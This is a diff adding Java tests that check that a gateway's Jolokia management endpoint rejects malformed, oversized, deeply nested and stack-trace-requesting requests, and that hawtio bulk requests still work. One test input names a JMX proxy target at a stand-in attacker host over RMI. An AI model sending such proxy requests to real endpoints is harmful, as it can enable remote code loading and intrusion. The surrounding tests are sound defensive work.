@@ -216,6 +216,133 @@ class ManagementPlaneTest extends GatewayTestSupport {
         assertRefused(exec(context, "stop()"));
     }
 
+    // ---- what Jolokia answers to requests it cannot read ------------------------------------------------------
+
+    @Test
+    void jolokiaRefusesBodiesThatAreNoJolokiaRequestWithAJsonError() {
+        Map<String, String> bodies = new java.util.LinkedHashMap<>();
+        bodies.put("not JSON", "not json at all");
+        bodies.put("truncated JSON", "{\"type\":\"read\"");
+        bodies.put("trailing content", "{\"type\":\"version\"} x");
+        bodies.put("an empty body", "");
+        bodies.put("a JSON string", "\"version\"");
+        bodies.put("an empty bulk", "[]");
+        bodies.put("a bulk of numbers", "[1,2]");
+        bodies.put("no type", "{\"mbean\":\"java.lang:type=Memory\"}");
+        bodies.put("an unknown type", "{\"type\":\"shutdown\"}");
+        bodies.put("a type that is no string", "{\"type\":[\"read\"]}");
+        bodies.put("an unknown type in a bulk", "[{\"type\":\"version\"},{\"type\":\"notification\"}]");
+        bodies.put("a read without an MBean", "{\"type\":\"read\"}");
+        bodies.put("a malformed MBean name", "{\"type\":\"read\",\"mbean\":\"no-colon\"}");
+        bodies.put("an MBean name that is no string", "{\"type\":\"read\",\"mbean\":{\"domain\":\"java.lang\"}}");
+        bodies.put("an exec without an operation", "{\"type\":\"exec\",\"mbean\":\"java.lang:type=Memory\"}");
+        bodies.put("arguments that are no array",
+                "{\"type\":\"exec\",\"mbean\":\"java.lang:type=Memory\",\"operation\":\"gc()\",\"arguments\":\"x\"}");
+        bodies.put("a config that is no object", "{\"type\":\"version\",\"config\":[1]}");
+        bodies.put("a processing option that is no value", "{\"type\":\"version\",\"config\":{\"ignoreErrors\":[1]}}");
+        bodies.put("a proxy target", "{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\",\"target\":\"x\"}");
+        bodies.put("a proxy target in a bulk", "[{\"type\":\"version\"},{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\","
+                + "\"target\":{\"url\":\"service:jmx:rmi:///jndi/rmi://attacker.example:1099/jmxrmi\"}}]");
+        bodies.put("a duplicate key", "{\"type\":\"version\",\"type\":\"shutdown\"}");
+        bodies.put("a deep nesting", "[".repeat(5000) + "]".repeat(5000));
+        bodies.put("a deep nesting in an argument", "{\"type\":\"exec\",\"mbean\":\"java.lang:type=Memory\",\"operation\":\"gc()\","
+                + "\"arguments\":" + "[".repeat(50) + "]".repeat(50) + "}");
+        bodies.forEach((what, body) -> {
+            HttpResponse<String> answer = postJolokia(body, Map.of());
+            assertEquals(400, answer.statusCode(), what + ": " + answer.body());
+            assertJsonError(answer, "invalid_request");
+            assertNoJavaNames(what, answer);
+        });
+    }
+
+    @Test
+    void jolokiaRefusesABodyLargerThanAMegabyteBeforeReadingIt() {
+        String huge = "{\"type\":\"version\",\"pad\":\"" + "p".repeat(1024 * 1024) + "\"}";
+        HttpResponse<String> answer = postJolokia(huge, Map.of());
+        assertEquals(413, answer.statusCode(), answer.body());
+        assertJsonError(answer, "request_too_large");
+
+        // sent in chunks, without a Content-Length: cut at the limit while it is read
+        HttpResponse<String> chunked = send(HttpRequest.newBuilder(management("/observe/jolokia"))
+                .header("Content-Type", "application/json")
+                .POST(HttpRequest.BodyPublishers.ofInputStream(
+                        () -> new java.io.ByteArrayInputStream(huge.getBytes(StandardCharsets.UTF_8)))));
+        assertEquals(413, chunked.statusCode(), chunked.body());
+    }
+
+    @Test
+    void jolokiaShowsNoStackTraceEvenWhenAsked() {
+        String unknown = "{\"type\":\"read\",\"mbean\":\"org.octgateway:type=nothing\"";
+        HttpResponse<String> inConfig = postJolokia(unknown + ",\"config\":{\"includeStackTrace\":true}}", Map.of());
+        assertEquals(400, inConfig.statusCode(), inConfig.body());
+        assertJsonError(inConfig, "invalid_request");
+        HttpResponse<String> serialized = postJolokia(unknown + ",\"config\":{\"serializeException\":\"true\"}}", Map.of());
+        assertEquals(400, serialized.statusCode(), serialized.body());
+        HttpResponse<String> inQuery = send(HttpRequest.newBuilder(management("/observe/jolokia?includeStackTrace=runtime&includeStackTrace=false"))
+                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(unknown + "}")));
+        assertEquals(400, inQuery.statusCode(), inQuery.body());
+        assertFalse(inQuery.body().contains("\tat "), inQuery.body());
+        byte[] read = (unknown + "}").getBytes(StandardCharsets.UTF_8);
+        RawHttpClient.Response badQuery;
+        try (RawHttpClient client = new RawHttpClient(peers().managementPort)) {
+            client.head("POST /observe/jolokia?includeStackTrace=%zz HTTP/1.1", "Content-Type: application/json",
+                    "Content-Length: " + read.length, "Connection: close").send(read);
+            badQuery = client.response();
+        } catch (java.io.IOException e) {
+            throw new java.io.UncheckedIOException(e);
+        }
+        assertEquals(400, badQuery.status(), badQuery.body());
+        assertEquals("invalid_request", json(badQuery.body()).path("error").asText(), badQuery.body());
+
+        // the default: an error without stack trace (Jolokia names the exception type, in the JSON of a 200)
+        JsonNode plain = jolokia(unknown + ",\"config\":{\"includeStackTrace\":false}}");
+        assertEquals(404, plain.path("status").asInt(), plain.toString());
+        assertTrue(plain.path("stacktrace").isMissingNode(), plain.toString());
+    }
+
+    @Test
+    void clientMistakesInReadableRequestsAreAnsweredInTheJsonNeverWithAServerError() {
+        String route = routeMBean("deliver-webhook");
+        Map<String, String> mistakes = new java.util.LinkedHashMap<>();
+        mistakes.put("an unknown MBean", read("org.octgateway:type=nothing", "State"));
+        mistakes.put("an unknown attribute", read(route, "NoSuchAttribute"));
+        mistakes.put("an unknown list path", "{\"type\":\"list\",\"path\":\"nothing/at/all\"}");
+        mistakes.put("an unknown operation", exec(route, "explode()"));
+        mistakes.put("an operation with wrong arguments", exec(route, "stop(long)", "\"soon\""));
+        mistakes.put("a processing option that is no number", "{\"type\":\"version\",\"config\":{\"maxDepth\":\"deep\"}}");
+        mistakes.put("a list path too long", "{\"type\":\"list\",\"path\":\"java.lang/type=Memory/op/x/y/z\"}");
+        mistakes.forEach((what, request) -> {
+            HttpResponse<String> answer = postJolokia(request, Map.of());
+            assertEquals(200, answer.statusCode(), what + ": " + answer.body());
+            int status = json(answer.body()).path("status").asInt();
+            assertTrue(status >= 400 && status < 500, what + ": " + answer.body());
+            assertFalse(answer.body().contains("\tat ") || answer.body().contains("stacktrace"), what + ": " + answer.body());
+        });
+        assertEquals("Started", routeState(route));
+    }
+
+    @Test
+    void hawtiosBulkRequestsStillWork() {
+        String route = routeMBean("deliver-webhook");
+        // the shape hawtio's Jolokia client sends: a bulk array, processing options in each request's config
+        String bulk = "[{\"type\":\"version\"},"
+                + "{\"type\":\"search\",\"mbean\":\"org.apache.camel:type=routes,*\",\"config\":{\"ignoreErrors\":true}},"
+                + "{\"type\":\"list\",\"path\":\"org.apache.camel\",\"config\":{\"maxDepth\":7,\"maxCollectionSize\":50000,"
+                + "\"canonicalNaming\":false,\"ignoreErrors\":true}},"
+                + "{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\",\"attribute\":[\"HeapMemoryUsage\",\"ObjectPendingFinalizationCount\"]},"
+                + "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"SystemProperties\"},"
+                + exec(route, "suspend()") + "," + exec(route, "resume()") + "]";
+        HttpResponse<String> answer = postJolokia(bulk, Map.of("Origin", HAWTIO_ORIGIN));
+        assertEquals(200, answer.statusCode(), answer.body());
+        JsonNode answers = json(answer.body());
+        assertEquals(7, answers.size(), answer.body());
+        for (int i : List.of(0, 1, 2, 3, 5, 6)) {
+            assertEquals(200, answers.path(i).path("status").asInt(), i + ": " + answers.path(i));
+        }
+        assertEquals(403, answers.path(4).path("status").asInt(), "the access policy still applies: " + answers.path(4));
+        assertEquals("Started", routeState(route));
+    }
+
     // ---- helpers -----------------------------------------------------------------------------------------
 
     private void assertRefused(String request) {
@@ -228,6 +355,12 @@ class ManagementPlaneTest extends GatewayTestSupport {
         assertEquals("error", body.path("status").asText(), answer.body());
         assertEquals(code, body.path("error").asText(), answer.body());
         assertFalse(body.path("message").asText().isBlank(), answer.body());
+    }
+
+    private static void assertNoJavaNames(String what, HttpResponse<String> answer) {
+        for (String javaName : List.of("Exception", "java.", "org.jolokia", "com.fasterxml", "\tat ")) {
+            assertFalse(answer.body().contains(javaName), what + " shows " + javaName + ": " + answer.body());
+        }
     }
 
     private HttpResponse<String> postJolokia(String request, Map<String, String> headers) {
